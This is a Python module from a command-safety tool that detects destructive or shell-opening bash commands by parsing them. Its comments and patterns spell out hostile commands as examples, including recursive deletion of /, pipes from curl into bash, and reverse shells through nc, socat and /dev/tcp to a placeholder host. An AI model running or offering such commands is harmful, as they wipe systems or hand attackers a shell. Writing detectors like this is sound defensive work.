"""Dangerous shell commands, judged on tree-sitter-bash's parse tree.

Caught: recursive rm of /, ~, $HOME or a top-level system tree (and any --no-preserve-root);
find over those with -delete or -exec rm; dd, mkfs, shred, wipefs, cp, tee or a redirection
onto a block device; recursive chmod to a world-writable mode or chown of those trees; fork
bombs; a download or a decoder piped into a shell or interpreter, ``bash <(curl ...)``,
``sh -c "$(curl ...)"``; psql/mysql/sqlite3 given destructive SQL (judged by the SQL
detector). Wrappers are peeled off recursively (sudo, doas, env, nice, nohup, timeout, time,
exec, command, xargs, stdbuf, ionice, chroot, ...), and code held in strings is parsed again:
``bash -c``, ``eval``, ``su -c``, ``ssh host '...'``, ``watch``, ``python -c "os.system(...)"``,
heredocs and ``echo ... |`` into a shell or SQL client. Quotes and backslashes inside command
names (``r''m``, ``\\rm``) are resolved as the shell would. Words whose value the text gives
(``c='rm -rf /'; $c``, ``"${a[@]}"``, ``${IFS}``, ``$(echo ...)``) are split as bash splits them,
brace words are expanded (``{rm,-rf,/}``), and ``cd`` is followed (``cd / && rm -rf *``).
PowerShell and cmd.exe get a small judge of their own (``shell_rules.judge_windows``).

Not caught: commands assembled at run time from variables the text does not assign
(``$a$b -rf /``), or fetched and run in two separate steps. Text that mentions a command
inside a sentence ("never run rm -rf / at work") is prose; a line that *starts* with the
command is a command, wherever it appears.

Linear time: a C-level search for the command names that can be dangerous (allowing quotes
and backslashes between their letters) skips almost every string without parsing. Text that
has one is cut into pieces of about ``PIECE`` characters at line ends where a linear scan of
bash's quoting state (``shell_parse.Quoting``) says the shell is back at the top level; a
construct longer than a piece is cut inside and reopened with the line that opened it. Only
pieces holding a candidate are parsed.
Every parse shares one work budget (parser operations and bytes; a clock only as a far
backstop), and so does
every string parsed again inside (``bash -c``), nested at most ``MAX_DEPTH`` deep. When the
budget runs out, or nesting goes deeper, before a verdict is reached, the text is judged
dangerous: the detector fails closed, it never allows by giving up. Any internal error also
answers dangerous.
"""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

from . import shell_parse
from .shell_rules import (
    DYNAMIC,
    NETWORK_CLIENTS,
    Cmd,
    Dangerous,
    ansi_c,
    basename,
    is_block_device,
    is_critical,
    judge_argv,
    judge_windows,
)

if TYPE_CHECKING:
    from tree_sitter import Node

PIECE = 4096
MAX_DEPTH = 12



def _word(name: str) -> re.Pattern[str]:
    # Starts with the literal so the regex engine scans for it at C speed; the lookbehind
    # after it checks the word boundary (``git-rm`` and ``form`` are not ``rm``).
    return re.compile(re.escape(name) + r"(?<![\w-]" + re.escape(name) + r")(?![\w-])")


def _words(*names: str) -> re.Pattern[str]:
    """Any of ``names`` as a word: one pattern whose every branch is led by its literal, so
    one scan finds them all (twenty patterns meant twenty scans of each value)."""
    return re.compile("|".join(_word(n).pattern for n in names))


_RECURSIVE = _words("rm", "chmod", "chown", "chgrp")
_FIND = _word("find")
_PIPED_NAMES = ("curl", "wget", "fetch", "aria2c", "http", "https", "lwp-request", "GET",
                "wget2", "xh", "curlie", "base64", "xxd", "openssl", "uudecode")
_NETWORK_NAMES = ("nc", "ncat", "netcat", "socat", "telnet")
_PIPED = _words(*_PIPED_NAMES, *_NETWORK_NAMES)  # what feeds a pipe, or is opened by one
_SQL = _words("psql", "mysql", "mariadb", "sqlite3", "sqlite", "duckdb", "clickhouse-client",
              "clickhouse", "sqlcmd", "pgcli", "mycli", "litecli")
_NETWORK = _words(*_NETWORK_NAMES)
_FLAG_R = re.compile(r"-[a-zA-Z]*[rR]")
_DYNAMIC_NAME = re.compile(r"\$\S*\s+(?:-\S+\s+)*-[a-zA-Z]*[rR][a-zA-Z]*\s+[/~$]")
_FUNCTION = re.compile(r"\(\s*\)\s*\{")
_ANSI_C_ESCAPE = re.compile(r"\$'[^'\\]*+\\")


def _suspicious(text: str) -> bool:
    """Cheap test that ``text`` may hold a dangerous command; every check is a C-level scan.

    Quotes and backslashes are dropped first, as the shell drops them from ``r''m``.
    """
    if "$'" in text and _ANSI_C_ESCAPE.search(text):  # ANSI-C quoting can spell any name
        return True  # (with an escape in it; without, it is a quoted string like any other)
    n = text
    if "'" in n or '"' in n or "\\" in n:
        n = n.replace("'", "").replace('"', "").replace("\\", "")
    if "/dev/" in n or "dropdb" in n or "mysqladmin" in n or ("--delete" in n and "rsync" in n):
        return True
    if "rmtree" in n or "remove_tree" in n or "RemoveAll" in n or "rmSync" in n or "rm_rf" in n:
        return True  # shutil.rmtree('/') and its kin in an interpreter's -c
    if ("sql" in n or "mariadb" in n or "duckdb" in n or "clickhouse" in n or "pgcli" in n) \
            and _SQL.search(n):
        return True
    if "-" in n:
        if _FLAG_R.search(n) and (_RECURSIVE.search(n) is not None
                                  or ("$" in n and _DYNAMIC_NAME.search(n) is not None)):
            return True
        if ("-delete" in n or "-exec" in n or "-ok" in n) and _FIND.search(n):
            return True
        if ("-e" in n or "-c" in n) and _NETWORK.search(n):
            return True  # nc -e /bin/sh host port
    if ("|" in n or "`" in n or "<(" in n or "$(" in n or "<<" in n) and \
            _PIPED.search(n):
        return True
    if ":" in n and ("xec:" in n or "ystem:" in n or "XEC:" in n or "YSTEM:" in n) and \
            _NETWORK.search(n):
        return True  # socat TCP:host:4444 EXEC:/bin/bash
    return "(" in n and ("|" in n or "&" in n) and _FUNCTION.search(n) is not None


# A command of these cut off at the end of a piece may have had a dangerous argument after it.
_CUT_NAMES = frozenset({"rm", "chmod", "chown", "chgrp", "find", "dd", "shred", "wipefs", "cp",
                        "tee", "mkfs", "psql", "mysql", "mariadb", "sqlite3", "duckdb"})
_WRITES = frozenset({">", ">>", ">|", "&>", "&>>", "<>"})


def is_dangerous_shell(text: str) -> bool:
    """True when ``text`` holds a shell command that can destroy or open up a machine."""
    if not isinstance(text, str) or len(text) < 4:
        return False
    try:  # PowerShell and cmd.exe: a small judge of its own for a handful of verbs
        if judge_windows(text):
            return True
    except Exception:
        return True
    if not _suspicious(text):
        return False  # no piece of a text can be suspicious when the whole is not
    if "\x00" in text:  # bash -c stops reading at a NUL: what comes before it still runs
        text = text.replace("\x00", "\n")
    try:
        _Judge(shell_parse.Budget()).text(text, 0)
    except Dangerous:
        return True
    except Exception:
        return True
    return False


def runs_destructive_sql(text: str) -> bool:
    """True when ``text`` is a shell command that hands a database client destructive SQL
    (``psql -c "DROP TABLE users"``, ``mysql -e ...``, ``sqlite3 app.db "DELETE ..."``): the
    destructive-SQL pack judges SQL wherever a command line carries it.

    A command line that names a client and is dangerous for any reason counts: the shell
    judgement is not split by cause, and such a line is blocked by either pack."""
    if not isinstance(text, str) or not ("sql" in text or "mariadb" in text or "duckdb" in text):
        return False
    n = text.replace("'", "").replace('"', "").replace("\\", "")
    return _SQL.search(n) is not None and is_dangerous_shell(text)


class _Judge:
    __slots__ = ("budget",)

    def __init__(self, budget: shell_parse.Budget) -> None:
        self.budget = budget

    def text(self, text: str, depth: int) -> bool:
        """Raise Dangerous if any command in ``text`` is dangerous; else whether ``text`` runs
        what arrives on its standard input as code (``cat | bash``)."""
        if depth > MAX_DEPTH and _suspicious(text):
            raise Dangerous
        if len(text) <= PIECE:
            if _suspicious(text) or (depth and _READER.search(text) is not None):
                return self.piece(text, depth, None)
            return False
        quoting = shell_parse.Quoting(text)
        start, head = 0, ""
        reads = False
        try:
            while start < len(text):
                end, tail, next_head, cut_hazard = _cut(quoting, start)
                piece = text[start:end]
                if _suspicious(piece) or (head and _suspicious(head + piece)):
                    reads |= self.piece(head + piece + tail, depth, len(head) + len(
                        piece.rstrip(" \t\n;")) if cut_hazard else None)
                start, head = end, next_head
        except shell_parse.ScanBudgetSpent:
            raise Dangerous from None
        return reads

    def piece(self, source_text: str, depth: int, cut: int | None) -> bool:
        """Parse and judge one piece; ``cut`` is where it was cut off inside a command line
        (a command reaching there may have had more arguments after it: fail closed)."""
        if shell_parse.dense(source_text):
            raise Dangerous  # where tree-sitter-bash turns quadratic
        source = source_text.encode("utf-8", "surrogatepass")
        root = shell_parse.parse(source, self.budget)
        if root is None:
            raise Dangerous
        if cut is not None:
            cut = len(source_text[:cut].encode("utf-8", "surrogatepass"))
        walk = _Walk(self, depth, cut)
        walk.run(root)
        if cut is not None and root.has_error and \
                _suspicious(source_text[source_text.rfind("\n", 0, len(source_text) - 1) + 1:]):
            raise Dangerous  # a construct left open at the cut may hide one
        if "{" in source_text and "," in source_text and depth <= MAX_DEPTH:
            expanded = _expand_braces(source_text)  # {rm,-rf,/}: bash's brace expansion
            if expanded != source_text and _suspicious(expanded):
                self.piece(expanded, depth + 1, None)
        return bool(walk.readers)

    def sql(self, sql: str) -> None:
        from . import sql as sql_detector

        if sql_detector.is_destructive_sql(sql):
            raise Dangerous


def _cut(quoting: shell_parse.Quoting, start: int) -> tuple[int, str, str, bool]:
    """Where the piece starting at ``start`` ends, text closing what is open there, text
    reopening it before the next piece, and whether the cut may split a command.

    A piece ends at the last line end in its second half where bash is at the top level; when
    there is none (a quoted string or heredoc longer than that), at a line end (else a space)
    inside the open construct, which the next piece reopens with the line that opened it."""
    text = quoting.text
    hi = start + PIECE
    if hi >= len(text):
        return len(text), "", "", False
    lo = start + PIECE // 2
    quoting.advance(hi, lo)
    if quoting.last_clean >= lo:
        return quoting.last_clean + 1, "", "", False
    nl, stack = quoting.snap
    hazard = not stack  # a top-level line that goes on (``|`` at its end)
    if nl < lo:  # no line end in the window: cut at a space inside a line
        stack, hazard = tuple(quoting.stack), True
        if quoting.gap >= hi:  # a comment or heredoc word running past hi
            nl = quoting.gap - 1
        else:
            lo = max(quoting.gap, lo)
            nl = max(text.rfind(" ", lo, hi), text.rfind(";", lo, hi))
            nl = hi - 1 if nl == -1 else nl
    cut = nl + 1
    head, tail = quoting.reopen(stack)
    return cut, tail, head, hazard


class _R:
    """A finished node: its word value (DYNAMIC where run-time), whether a download runs inside
    it, and the command it stands for (commands, pipelines, redirected statements)."""

    __slots__ = ("cmd", "dl", "kind", "names", "text")

    def __init__(self, kind: str, text: str = "", dl: bool = False, cmd: Cmd | None = None,
                 names: tuple[str, ...] = ()) -> None:
        self.kind, self.text, self.dl, self.cmd, self.names = kind, text, dl, cmd, names


_ESCAPE = re.compile(r"\\(.)", re.DOTALL)
_DQ_ESCAPE = re.compile(r"\\([$`\"\\\n])")
_DYNAMIC_NODES = frozenset({"command_substitution", "process_substitution",
                            "arithmetic_expansion"})
_CONTAINERS = frozenset({"program", "list", "compound_statement", "subshell", "ERROR",
                         "do_group", "if_statement", "while_statement", "for_statement",
                         "else_clause", "elif_clause", "case_item", "negated_command"})


class _Walk:
    """One post-order pass over a parse tree, iterative so depth costs no recursion."""

    __slots__ = ("counter", "cut_at", "cwd", "depth", "env", "judge", "readers", "spawns")

    def __init__(self, judge: _Judge, depth: int, cut_at: int | None) -> None:
        self.judge, self.depth, self.cut_at = judge, depth, cut_at
        self.env: dict[str, str] = {"IFS": " "}
        self.cwd: str | None = None  # where the last cd went, when known (/, ~, /etc, ...)
        # commands reading code on the standard input the text itself was given
        self.readers: dict[int, Cmd] = {}
        self.spawns: dict[str, int] = {}  # command name -> when it was last run in the background
        self.counter = 0

    def run(self, root: Node) -> None:
        stack: list[tuple[Node, list[Node], list[_R], int]] = [(root, root.children, [], 0)]
        index = [0]
        steps = 0
        while stack:
            steps += 1
            if steps & 1023 == 0 and self.judge.budget.spent():
                raise Dangerous  # out of budget before a verdict: fail closed
            node, kids, results, seq = stack[-1]
            i = index[-1]
            if i < len(kids):
                index[-1] = i + 1
                child = kids[i]
                if child.type == "do_group" and node.type == "for_statement":
                    self._loop_variable(results)
                stack.append((child, child.children, [], self.counter))
                index.append(0)
                continue
            stack.pop()
            index.pop()
            result = self.finish(node, results, seq)
            if stack:
                stack[-1][2].append(result)

    def _loop_variable(self, parts: list[_R]) -> None:
        """``for d in /tmp /; do rm -rf $d; done``: in the loop the variable holds each value
        in turn, so it is judged as the most dangerous of them (a critical path first)."""
        name = next((p.text for p in parts if p.kind == "variable_name"), None)
        if name is None:
            return
        kinds = [p.kind for p in parts]
        listed = parts[kinds.index("in") + 1:] if "in" in kinds else []
        values = [w for p in listed if p.kind not in (";", "\n")
                  for w in (p.text.split() if p.kind in ("split", "@split") else [p.text])]
        if not values or any(DYNAMIC in v for v in values):  # for d; ... (the arguments)
            self.env.pop(name, None)
            return
        self.env[name] = next((v for v in values if is_critical(v)), values[0])

    def _spawn(self, names: tuple[str, ...]) -> None:
        for n in names:
            self.counter += 1
            self.spawns[n] = self.counter

    def finish(self, node: Node, kids: list[_R], seq: int) -> _R:
        kind = node.type
        if not kids:
            raw = (node.text or b"").decode("utf-8", "replace")
            if kind == "word":
                return _R(kind, _ESCAPE.sub(r"\1", raw))
            if kind == "raw_string":
                return _R(kind, raw[1:-1])
            if kind == "string_content":
                return _R(kind, _DQ_ESCAPE.sub(r"\1", raw))
            if kind == "ansi_c_string":
                text = ansi_c(raw[2:-1])
                return _R(kind, DYNAMIC if text is None else text)
            return _R(kind, raw)
        dl = any(k.dl for k in kids)
        if kind in ("string", "translated_string", "concatenation"):
            # an unquoted expansion (or "${a[@]}") is split into words when the command runs
            split = any(k.kind == "@split" for k in kids) or \
                (kind == "concatenation" and any(k.kind == "split" for k in kids))
            return _R("split" if split else kind,
                      "".join(k.text for k in kids if k.kind not in ('"', '$"')), dl)
        if kind in ("simple_expansion", "expansion"):
            name = next((k.text for k in kids if k.kind in ("variable_name",
                                                            "special_variable_name")), "")
            sub = next((k.text for k in kids if k.kind == "subscript"), "")
            if sub and not name:  # ${a[@]}, ${a[0]}: the array's words
                name = sub.split("[", 1)[0]
            value = "~" if name == "HOME" else self.env.get(name, DYNAMIC)
            if len(kids) > 3 and kind == "expansion" and not sub and \
                    not any(k.kind in (":?", "?") for k in kids):
                value = DYNAMIC  # ${x:-...}, ${x#...}: an operator changes the value
                # (${x:?} and ${x?msg} only stop when x is unset: the value is x's)
            if sub.endswith(("[@]", "[*]")) and value != DYNAMIC:
                return _R("@split", value, dl)
            return _R("split" if value != DYNAMIC and _SPACE.search(value) else kind, value, dl)
        if kind == "command_substitution":
            # $(echo rm -rf /): the text it prints is known, and split into words
            inner = [k for k in kids if k.cmd is not None]
            if len(inner) == 1 and inner[0].cmd is not None and \
                    inner[0].cmd.emits is not None and not dl:
                return _R("split", inner[0].cmd.emits)
            return _R(kind, DYNAMIC, dl)
        if kind == "array":
            return _R(kind, " ".join(k.text for k in kids if k.kind not in ("(", ")")), dl)
        if kind in _DYNAMIC_NODES:
            return _R(kind, DYNAMIC, dl)
        if kind == "variable_assignment":
            if len(kids) >= 3 and kids[1].kind == "=":
                self.env[kids[0].text] = kids[2].text
            return _R(kind, "", dl)
        if kind == "command_name":
            return _R(kids[0].kind if kids[0].kind in ("split", "@split") else kind,
                      kids[0].text, dl)
        if kind == "command":
            return self.command(node, kids)
        if kind == "file_redirect":
            op = next((k.kind for k in kids if k.kind in _WRITES), None)
            if op and is_block_device(kids[-1].text):
                raise Dangerous
            if any(k.text.startswith(("/dev/tcp/", "/dev/udp/")) for k in kids):
                raise Dangerous  # bash -i >& /dev/tcp/host/port: a shell on a socket
            if dl and kids[0].kind == "<":
                return _R("stdin_dl", "", dl)  # sh < <(curl x): a download on stdin
            return _R(kind, "", dl)
        if kind == "heredoc_redirect":
            body = next((k.text for k in kids if k.kind == "heredoc_body"), "")
            return _R(kind, body, dl)
        if kind == "herestring_redirect":
            return _R(kind, kids[-1].text, dl)
        if kind == "heredoc_body":
            return _R(kind, "".join(k.text for k in kids), dl)
        if kind == "redirected_statement":
            stmt = kids[0]
            for k in kids[1:]:
                if k.kind in ("heredoc_redirect", "herestring_redirect") and stmt.cmd:
                    self.feed(stmt.cmd, k.text)
                if k.kind in ("heredoc_redirect", "herestring_redirect", "stdin_dl",
                              "file_redirect") and stmt.cmd:
                    self.readers.pop(id(stmt.cmd), None)
                if k.kind == "stdin_dl" and stmt.cmd and stmt.cmd.stdin_code is not None:
                    raise Dangerous
            return _R(kind, "", dl, stmt.cmd, stmt.names)
        if kind == "pipeline":
            return self.pipeline(kids)
        if kind == "function_definition":
            name = kids[0].text if kids else ""
            if name and self.spawns.get(name, -1) > seq:  # runs itself in a pipe or with &
                raise Dangerous
            return _R(kind)
        if kind in _CONTAINERS:
            for n, k in enumerate(kids):
                if k.kind == "&" and n:
                    self._spawn(kids[n - 1].names)
            last = kids[-1]
            if len(kids) == 1:
                return _R(kind, "", dl, last.cmd, last.names)
            if kind in ("subshell", "compound_statement"):
                # curl x | (sh), curl x | { sh; }: the group's stdin goes to its commands
                reader = next((k for k in kids if k.cmd is not None and
                               k.cmd.stdin_code is not None), None)
                if reader is not None:
                    return _R(kind, "", dl, reader.cmd, reader.names)
            return _R(kind, "", dl)
        return _R(kind, "".join(k.text for k in kids), dl)

    def command(self, node: Node, kids: list[_R]) -> _R:
        words = [k for k in kids if k.kind not in ("variable_assignment", "file_redirect",
                                                    "herestring_redirect", "heredoc_redirect")]
        if not words:
            return _R("command")
        argv: list[str] = []
        dls: list[bool] = []
        for w in words:
            if w.kind in ("split", "@split") and DYNAMIC not in w.text:
                parts = w.text.split()  # word splitting on the default IFS
                argv.extend(parts)
                dls.extend([w.dl] * len(parts))
            else:
                argv.append(w.text)
                dls.append(w.dl)
        if not argv:
            return _R("command")
        if argv[0] in ("cd", "pushd"):
            self.cwd = _cd(self.cwd, [a for a in argv[1:] if not a.startswith("-")])
            return _R("command", "", False, Cmd(argv), ("cd",))
        if self.cwd is not None:  # cd / && rm -rf *: relative words resolve against it
            base = self.cwd.rstrip("/") + "/"
            for n in range(1, len(argv)):
                a = argv[n]
                if a and a[0] not in "-/~$" and DYNAMIC not in a and is_critical(base + a):
                    argv[n] = base + a
        cmd = judge_argv(argv, dls, self.sub_text, self.judge.sql)
        if cmd.stdin_code in ("sh", "code"):
            self.readers[id(cmd)] = cmd
        for k in kids:
            if k.kind in ("herestring_redirect", "heredoc_redirect", "file_redirect", "stdin_dl"):
                self.readers.pop(id(cmd), None)
            if k.kind == "stdin_dl" and cmd.stdin_code is not None:
                raise Dangerous
            if k.kind == "herestring_redirect":
                self.feed(cmd, k.text)
        if self.cut_at is not None and node.end_byte >= self.cut_at and cmd.argv and \
                (argv[0].rsplit("/", 1)[-1] in _CUT_NAMES or _suspicious(" ".join(argv))):
            raise Dangerous  # its arguments may go on past the piece: fail closed
        name = argv[0].rsplit("/", 1)[-1]
        return _R("command", "", any(dls) or cmd.download or cmd.decoder, cmd, (name,))

    def pipeline(self, kids: list[_R]) -> _R:
        stages = [k for k in kids if k.cmd is not None or k.kind in ("command",
                                                                       "redirected_statement")]
        names: list[str] = []
        source = shell_before = False
        prev: Cmd | None = None
        for stage in stages:
            names.extend(stage.names)
            cmd = stage.cmd
            if cmd is None:
                prev = None
                continue
            if cmd.stdin_code is not None and source:
                raise Dangerous
            if shell_before and cmd.argv and basename(cmd.argv[0]) in NETWORK_CLIENTS:
                raise Dangerous  # ... | sh -i | nc host port: a shell's output to the network
            shell_before = shell_before or cmd.stdin_code == "sh"
            if prev is not None:
                passthrough = prev.argv[:1] in (["cat"], ["tee"]) and all(
                    a.startswith("-") for a in prev.argv[1:])
                if passthrough and prev is stages[0].cmd and cmd.stdin_code in ("sh", "code"):
                    self.readers[id(prev)] = prev  # cat | bash: the text's stdin runs
                else:
                    self.readers.pop(id(cmd), None)
            if prev is not None and prev.emits is not None:
                self.feed(cmd, prev.emits)
            if prev is not None and cmd.xargs is not None:
                extra = [a for a in prev.argv[1:] if not a.startswith("-")]
                self.xargs(cmd, extra)
            source = source or cmd.download or cmd.decoder
            prev = cmd
        self._spawn(tuple(names))
        return _R("pipeline", "", source or any(k.dl for k in kids), prev, tuple(names))

    def feed(self, cmd: Cmd, text: str) -> None:
        """Judge ``text`` arriving on the standard input of ``cmd``."""
        if cmd.stdin_code in ("sh", "code"):
            self.sub_text(text)
        elif cmd.stdin_code == "sql":
            self.judge.sql(text)
        if cmd.xargs is not None and DYNAMIC not in text:
            self.xargs(cmd, text.split()[:64])

    def xargs(self, cmd: Cmd, words: list[str]) -> None:
        """Judge the command xargs builds from ``words`` (``-I{}`` replaced, else appended)."""
        base = cmd.xargs or []
        if words and any("{}" in a for a in base):
            argv = [a.replace("{}", words[0]) for a in base]
        else:
            argv = base + words
        judge_argv(argv, [False] * len(argv), self.sub_text, self.judge.sql)

    def sub_text(self, text: str) -> bool:
        return self.judge.text(text, self.depth + 1)


def _cd(cwd: str | None, args: list[str]) -> str | None:
    """Where ``cd args`` goes from ``cwd``, when known."""
    if not args or args[0] in ("~", "$HOME"):
        return "~"
    t = args[0]
    if DYNAMIC in t or t == "-":
        return None
    if t.startswith(("/", "~/")):
        return t
    return None if cwd is None else cwd.rstrip("/") + "/" + t


_SPACE = re.compile(r"\s")
# A word that can run code it reads (sh, bash, python, source ...): parsed to learn whether a
# ``bash -c`` string runs its standard input (``curl x | bash -c 'cat | bash'``).
_READER = re.compile(r"(?:sh|bash|zsh|dash|ksh|python\d*|perl|ruby|node|php|source)\b")
# One brace group {a,b,...} with its word's prefix and suffix, no quotes or nesting inside.
_BRACE_WORD = re.compile(r"[^\s{}'\"`;|&()<>$\\]*\{([^\s{}'\"`;|&()<>$\\]*,"
                         r"[^\s{}'\"`;|&()<>$\\]*)\}[^\s{}'\"`;|&()<>]*")


def _expand_braces(text: str) -> str:
    """``text`` with each simple brace word expanded as bash does (``/{,}`` -> ``/ /``), at most
    64 of them; the prefix is found by walking back from each ``{``, so the cost is linear."""
    out: list[str] = []
    pos = done = 0
    while done < 64:
        brace = text.find("{", pos)
        if brace == -1:
            break
        start = brace
        while start > pos and start > brace - 256 and text[start - 1] not in \
                " \t\n{}'\"`;|&()<>$\\":
            start -= 1
        m = _BRACE_WORD.match(text, start, min(len(text), brace + 512))
        if m is None or m.start(1) != brace + 1 or text[brace - 1:brace] == "$":  # ${a,b}
            out.append(text[pos:brace + 1])
            pos = brace + 1
            continue
        prefix = text[start:brace]
        suffix = text[m.end(1) + 1:m.end()]
        words = [prefix + alt + suffix for alt in m[1].split(",")]
        out.append(text[pos:start])
        out.append(" ".join(w for w in words if w))
        pos = m.end()
        done += 1
    out.append(text[pos:])
    return "".join(out)


